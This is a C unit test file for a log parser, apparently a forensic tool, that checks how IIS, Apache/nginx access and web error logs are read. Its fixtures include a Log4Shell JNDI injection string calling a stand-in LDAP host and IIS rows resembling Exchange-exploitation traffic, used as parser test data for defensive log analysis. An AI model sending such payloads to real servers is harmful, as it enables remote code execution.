#include "trace_lib.h"

#define FIELDS                                                                                               \
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "     \
    "cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
#define ROW                                                                                                  \
    "2021-03-03 05:00:00 10.0.0.5 POST /ecp/y.js - 443 - 203.0.113.7 ExchangeServicesClient/0.0.0.0 - 200 "  \
    "0 0 31\n"

static when_t at(const char *iso)
{
    when_t t;
    assert_true(clock_parse_iso(str_of(iso), 0, &t));
    return t;
}

static void test_iis(void **state)
{
    (void)state;
    struct log l;
    /* fields change in the middle, without a #Software line before */
    assert_string_equal(
        log_read(&l, NULL,
                 str_of("#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n" FIELDS ROW
                        "#Fields: date time c-ip sc-status cs-uri-stem\n2021-03-03 06:00:00 198.51.100.1 302 "
                        "/owa/\n"),
                 "x", 0)
            ->name,
        "iis");
    assert_int_equal(l.row.n, 2);
    assert_string_equal(field(&l, 0, "cs-uri-stem"), "/ecp/y.js");
    assert_string_equal(field(&l, 1, "cs-uri-stem"), "/owa/");
    assert_string_equal(field(&l, 1, "sc-status"), "302");
    assert_int_equal(l.row.p[0].time, at("2021-03-03T05:00:00Z"));
    assert_int_equal(l.row.p[0].zone, TRACE_ZONE_FORMAT);
    assert_null(l.row.p[0].note);
    log_free(&l);
    /* header missing: the usual columns, and that is said */
    log_read(&l, NULL, str_of(ROW), "u_ex210303.log", 0);
    assert_string_equal(field(&l, 0, "c-ip"), "203.0.113.7");
    assert_string_equal(field(&l, 0, "sc-status"), "200");
    assert_int_equal(l.damage.n, 1);
    log_free(&l);
}

/* The date is of the #Date line, else of the file's name; a clock that goes back is the next day. */
static void test_iis_date(void **state)
{
    (void)state;
    struct log l;
    const char *rows = "#Fields: time c-ip cs-method cs-uri-stem sc-status\n23:59:58 1.2.3.4 GET /a "
                       "200\n00:00:01 1.2.3.4 GET /b 200\n";
    log_read(&l, "iis", str_of(rows), "u_ex210303.log", 0);
    assert_int_equal(l.row.n, 2);
    assert_int_equal(l.row.p[0].time, at("2021-03-03T23:59:58Z"));
    assert_int_equal(l.row.p[1].time, at("2021-03-04T00:00:01Z"));
    assert_non_null(strstr(l.row.p[0].note, "name"));
    log_free(&l);
    struct arena a = {0};
    log_read(&l, "iis", str_of(arena_printf(&a, "#Date: 2021-02-28 22:00:00\n%s", rows)), "u_ex210303.log",
             0);
    assert_int_equal(l.row.p[0].time, at("2021-02-28T23:59:58Z"));
    assert_int_equal(l.row.p[1].time, at("2021-03-01T00:00:01Z"));
    assert_non_null(strstr(l.row.p[0].note, "#Date"));
    log_free(&l);
    log_read(&l, "iis", str_of(rows), "other.log", 0);
    assert_int_equal(l.row.p[0].time, WHEN_NONE);
    assert_non_null(l.row.p[0].damage);
    log_free(&l);
    arena_release(&a);
}

static void test_iis_damage(void **state)
{
    (void)state;
    struct log l;
    log_read(&l, NULL,
             str_of(FIELDS
                    "2021-03-03 05:00:00 10.0.0.5 POST /powershell PSVersion=5.1 444  CONTOSO\\u ::1 WinRM - "
                    "200 0 0 31\n"
                    "2021-03-03 05:00:01 10.0.0.5 GET /a q=one two three 444 - 203.0.113.7 UA - 404 0 0 1\n"
                    "2021-03-03 05:00:02 10.0.0.5 GET /short\n"
                    "\x01\x02 nonsense\n" ROW),
             "x", 0);
    assert_int_equal(l.row.n, 4);
    assert_null(l.row.p[0].damage);
    assert_string_equal(field(&l, 0, "cs-username"), "CONTOSO\\u");
    assert_non_null(l.row.p[1].damage);
    assert_string_equal(field(&l, 1, "cs-uri-query"), "q=one two three");
    assert_string_equal(field(&l, 1, "sc-status"), "404");
    assert_string_equal(field(&l, 1, "c-ip"), "203.0.113.7");
    assert_non_null(l.row.p[2].damage);
    assert_int_equal(l.damage.n, 1);
    assert_int_equal(l.cover.damaged, 3);
    assert_int_equal(l.cover.rows, 5);
    log_free(&l);
}

static void test_access(void **state)
{
    (void)state;
    struct log l;
    assert_string_equal(
        log_read(&l, NULL,
                 str_of("203.0.113.7 - - [10/Dec/2021:13:55:36 +0900] \"GET /x?q=${jndi:ldap://a/b} "
                        "HTTP/1.1\" 200 2326 \"-\" \"curl \\\"7\\\" x\"\n"
                        "www.example.jp:443 2001:db8::1 - alice [10/Dec/2021:13:55:37 +0900] \"POST /a "
                        "HTTP/2.0\" 404 - \"http://r/\" \"UA\" 12 host\n"
                        "203.0.113.9 - - [10/Dec/2021:13:55:38 +0900] \"\\x16\\x03\\x01\" 400 226\n"
                        "broken\n"),
                 "x", 0)
            ->name,
        "access");
    assert_int_equal(l.row.n, 3);
    assert_int_equal(l.row.p[0].time, at("2021-12-10T04:55:36Z"));
    assert_int_equal(l.row.p[0].zone, TRACE_ZONE_STATED);
    assert_string_equal(field(&l, 0, "c-ip"), "203.0.113.7");
    assert_string_equal(field(&l, 0, "cs-method"), "GET");
    assert_string_equal(field(&l, 0, "cs-uri-stem"), "/x");
    assert_string_equal(field(&l, 0, "cs-uri-query"), "q=${jndi:ldap://a/b}");
    assert_string_equal(field(&l, 0, "sc-status"), "200");
    assert_string_equal(field(&l, 0, "cs(User-Agent)"), "curl \\\"7\\\" x");
    assert_string_equal(field(&l, 1, "cs-host"), "www.example.jp:443");
    assert_string_equal(field(&l, 1, "c-ip"), "2001:db8::1");
    assert_string_equal(field(&l, 1, "cs-username"), "alice");
    assert_string_equal(field(&l, 2, "sc-status"), "400");
    assert_int_equal(l.damage.n, 1);
    log_free(&l);
}

static void test_error(void **state)
{
    (void)state;
    struct log l;
    assert_string_equal(log_read(&l, NULL,
                                 str_of("[Fri Mar 05 10:14:32.123456 2021] [core:error] [pid 12:tid 34] "
                                        "[client 203.0.113.7:5555] AH00126: Invalid URI\n"
                                        "  second line\n[Fri Mar  5 10:14:33 2021] [notice] resuming\n"),
                                 "x", 0)
                            ->name,
                        "weberror");
    assert_int_equal(l.row.n, 2);
    assert_string_equal(field(&l, 0, "c-ip"), "203.0.113.7");
    assert_string_equal(field(&l, 0, "level"), "core:error");
    assert_string_equal(field(&l, 0, "Message"), "AH00126: Invalid URI\n  second line");
    assert_int_equal(l.row.p[0].zone, TRACE_ZONE_ASSUMED);
    assert_int_equal(l.row.p[0].time, at("2021-03-05T10:14:32.123456Z"));
    log_free(&l);
    assert_string_equal(
        log_read(&l, NULL,
                 str_of("2021/03/05 10:14:32 [error] 7#7: *1 open() failed, client: 203.0.113.7, server: x, "
                        "request: \"GET /a HTTP/1.1\", host: \"h\"\n"),
                 "x", 0)
            ->name,
        "weberror");
    assert_string_equal(field(&l, 0, "c-ip"), "203.0.113.7");
    assert_string_equal(field(&l, 0, "request"), "GET /a HTTP/1.1");
    log_free(&l);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_iis), cmocka_unit_test(test_iis_date),
                                       cmocka_unit_test(test_iis_damage), cmocka_unit_test(test_access),
                                       cmocka_unit_test(test_error)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
